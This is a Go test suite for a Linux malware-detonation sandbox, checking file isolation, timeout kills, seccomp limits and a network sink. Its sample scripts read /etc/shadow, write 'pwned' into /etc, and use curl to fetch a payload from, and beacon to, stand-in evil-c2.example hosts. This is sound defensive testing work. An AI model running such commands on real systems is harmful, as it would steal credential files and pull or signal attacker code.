//go:build linux

package sandbox

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// sandboxUnavailable says why the sandbox cannot run here, "" when it can.
func sandboxUnavailable() string {
	if os.Geteuid() != 0 {
		return "the sandbox needs root (cgroups, namespaces): skipped"
	}
	if _, err := exec.LookPath("bwrap"); err != nil {
		return "bubblewrap (bwrap) not installed: skipped (apt-get install bubblewrap)"
	}
	if _, err := cgroup2Root(); err != nil {
		return "no cgroup v2: skipped: " + err.Error()
	}
	return ""
}

// needSandbox skips a test when the sandbox cannot run here.
func needSandbox(t testing.TB) {
	t.Helper()
	if why := sandboxUnavailable(); why != "" {
		t.Skip(why)
	}
}

func script(t testing.TB, body string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "sample.sh")
	if err := os.WriteFile(p, []byte("#!/bin/sh\n"+body), 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

func detonateRaw(t *testing.T, sample string, opts Options) Result {
	t.Helper()
	r, err := Prepare("test-"+strings.ReplaceAll(t.Name(), "/", "-"), sample, opts)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := r.Close(); err != nil {
			t.Error(err)
		}
	}()
	res, err := r.Start(context.Background())
	if err != nil {
		t.Fatalf("%v (bwrap: %s)", err, res.Stderr)
	}
	return res
}

// The sample cannot read the host's protected files, write the host's
// files, keeps what it writes in throwaway directories (hashed after the
// run), and exits with its own code.
func TestRunIsolatesFiles(t *testing.T) {
	needSandbox(t)
	hostDir, err := os.MkdirTemp("/var/tmp", "quarry-host-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(hostDir)
	res := detonateRaw(t, script(t, `
cat /etc/shadow > /tmp/shadow 2>/dev/null || echo denied > /tmp/shadow
echo pwned > /etc/quarry-pwned 2>/dev/null
echo pwned > `+hostDir+`/pwned 2>/dev/null
echo x > $HOME/.profile_x
exit 3`), Options{Timeout: 20 * time.Second})
	if res.ExitCode != 3 || res.TimedOut {
		t.Fatalf("exit %d timed out %v (%s)", res.ExitCode, res.TimedOut, res.Stderr)
	}
	for _, p := range []string{"/etc/quarry-pwned", hostDir + "/pwned"} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("the sample wrote the host's %s", p)
		}
	}
	got := map[string]File{}
	for _, f := range res.Files {
		got[f.Path] = f
	}
	if f := got["/tmp/shadow"]; f.Size != int64(len("denied\n")) {
		t.Errorf("/etc/shadow readable in the sandbox: %+v", f)
	}
	if f := got[Home+"/.profile_x"]; f.SHA256 != "73cb3858a687a8494ca3323053016282f3dad39d42cf62ca4e79dda2aac7d9ac" {
		t.Errorf("home file not hashed: %+v (files %+v)", f, res.Files)
	}
}

// At the timeout every process of the run is killed, those that left the
// sample's process group and session included.
func TestRunTimeoutKillsEverything(t *testing.T) {
	needSandbox(t)
	start := time.Now()
	res := detonateRaw(t, script(t, `
(setsid sleep 317 &) 
nohup sleep 318 >/dev/null 2>&1 &
sleep 319`), Options{Timeout: time.Second})
	if !res.TimedOut {
		t.Fatalf("not timed out: %+v", res)
	}
	if d := time.Since(start); d > 30*time.Second {
		t.Errorf("run took %v", d)
	}
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && strings.HasPrefix(string(b), "sleep\x0031") {
			t.Errorf("process %s survived the timeout: %q", e.Name(), b)
		}
	}
}

// The seccomp filter stops namespace creation and mount in the sandbox
// (unshare of a user namespace would succeed without it).
func TestRunSeccomp(t *testing.T) {
	needSandbox(t)
	res := detonateRaw(t, script(t, `
unshare -U true 2>/dev/null || echo x > /tmp/unshare_denied
unshare -n true 2>/dev/null || echo x > /tmp/unshare_net_denied
mount -t tmpfs none /tmp 2>/dev/null || echo x > /tmp/mount_denied
true`), Options{Timeout: 20 * time.Second})
	got := map[string]bool{}
	for _, f := range res.Files {
		got[f.Path] = true
	}
	for _, p := range []string{"/tmp/unshare_denied", "/tmp/unshare_net_denied", "/tmp/mount_denied"} {
		if !got[p] {
			t.Errorf("%s missing: the call was not denied (files %+v)", p, res.Files)
		}
	}
}

// With no network the sample reaches nothing of the host's; with the sink
// it reaches the sink, which records the HTTP request, the TLS server
// name and the DNS names, and still nothing of the host's.
func TestRunNetwork(t *testing.T) {
	needSandbox(t)
	l, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var reached atomic.Int32
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			reached.Add(1)
			c.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	hostIP := "127.0.0.1"
	if addrs, err := net.InterfaceAddrs(); err == nil {
		for _, a := range addrs {
			if ip, ok := a.(*net.IPNet); ok && ip.IP.To4() != nil && !ip.IP.IsLoopback() {
				hostIP = ip.IP.String()
			}
		}
	}
	body := fmt.Sprintf(`
curl -s -m 3 http://127.0.0.1:%[1]d/ ; curl -s -m 3 http://%[2]s:%[1]d/
curl -s -m 3 http://update.evil-c2.example/payload.sh -o /tmp/p.sh
curl -s -k -m 3 https://beacon.evil-c2.example/
exit 0`, port, hostIP)
	for _, mode := range []string{NetworkNone, NetworkSink} {
		res := detonateRaw(t, script(t, body), Options{Timeout: 30 * time.Second, Network: mode})
		if reached.Load() != 0 {
			t.Fatalf("%s: the sample reached the host's listener", mode)
		}
		if mode == NetworkNone {
			if len(res.Sink) != 0 {
				t.Errorf("none: sink records %+v", res.Sink)
			}
			continue
		}
		var http, sni, dns bool
		for _, r := range res.Sink {
			http = http || (r.Request == "GET /payload.sh HTTP/1.1" && r.Host == "update.evil-c2.example")
			sni = sni || (r.Protocol == "tls" && r.SNI == "beacon.evil-c2.example" && strings.HasSuffix(r.Dest, ":443"))
			dns = dns || r.Query == "update.evil-c2.example"
		}
		if !http || !sni || !dns {
			t.Errorf("sink: http %v sni %v dns %v: %+v", http, sni, dns, res.Sink)
		}
	}
}

// An IPv6 destination is never the host's: with no network it fails; with
// the sink it reaches the sink, which records it (where the kernel has
// IPv6; else it fails too). The host's IPv6 listener is never reached,
// neither on ::1 nor on the host's own addresses.
func TestRunNetworkIPv6(t *testing.T) {
	needSandbox(t)
	l, err := net.Listen("tcp6", "[::]:0")
	if err != nil {
		t.Skipf("no IPv6 on this host: %v", err)
	}
	defer l.Close()
	var reached atomic.Int32
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			reached.Add(1)
			c.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	body := fmt.Sprintf("curl -s -m 3 'http://[::1]:%d/'\n", port)
	if addrs, err := net.InterfaceAddrs(); err == nil {
		for _, a := range addrs {
			if ip, ok := a.(*net.IPNet); ok && ip.IP.To4() == nil && ip.IP.IsGlobalUnicast() {
				body += fmt.Sprintf("curl -s -m 3 'http://[%s]:%d/'\n", ip.IP, port)
			}
		}
	}
	body += "curl -s -m 3 'http://[2001:db8::7]:8080/v6beacon'\nexit 0\n"
	for _, mode := range []string{NetworkNone, NetworkSink} {
		res := detonateRaw(t, script(t, body), Options{Timeout: 30 * time.Second, Network: mode})
		if reached.Load() != 0 {
			t.Fatalf("%s: the sample reached the host's IPv6 listener", mode)
		}
		if mode == NetworkNone {
			if len(res.Sink) != 0 {
				t.Errorf("none: sink records %+v", res.Sink)
			}
			continue
		}
		sunk := false
		for _, r := range res.Sink {
			sunk = sunk || (r.Dest == "[2001:db8::7]:8080" && r.Request == "GET /v6beacon HTTP/1.1")
		}
		if !sunk {
			if _, err := os.Stat("/proc/net/if_inet6"); err != nil {
				t.Logf("the kernel has no IPv6: the connection failed, as it should (%+v)", res.Sink)
				continue
			}
			t.Errorf("sink: the IPv6 request was not recorded: %+v", res.Sink)
		}
	}
}
